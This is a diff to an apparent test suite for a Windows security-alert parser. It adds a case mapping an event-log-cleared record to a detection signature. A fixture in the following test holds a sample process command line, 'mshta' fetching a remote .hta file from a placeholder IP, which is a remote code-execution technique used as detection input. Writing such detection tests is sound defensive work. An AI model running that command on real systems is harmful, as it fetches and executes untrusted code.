@@ -136,6 +136,20 @@ describe("readAlerts: Windows", () => {
     });
   });
 
+  it("takes an event's own channel for its channel, not that of the log it tells of", async () => {
+    const winlog = {
+      user_data: { Channel: "Application", SubjectUserName: "pat" },
+      event_id: 104,
+      channel: "System",
+      provider_name: "Microsoft-Windows-Eventlog",
+      computer_name: "h",
+    };
+    expect(await readOne({ "@timestamp": "2026-01-02T12:00:00Z", winlog })).toMatchObject({
+      event: "System/104",
+      signatureId: "event-log-cleared",
+    });
+  });
+
   it("reads fields that only the message has", async () => {
     const message =
       "A new process has been created.\r\n\r\nCreator Subject:\r\n\tAccount Name:\t\tpat\r\n\tAccount Domain:\t\tEXAMPLE\r\n\r\nProcess Information:\r\n\tNew Process Name:\tC:\\Windows\\System32\\mshta.exe\r\n\tProcess Command Line:\tmshta http://192.0.2.1/a.hta";
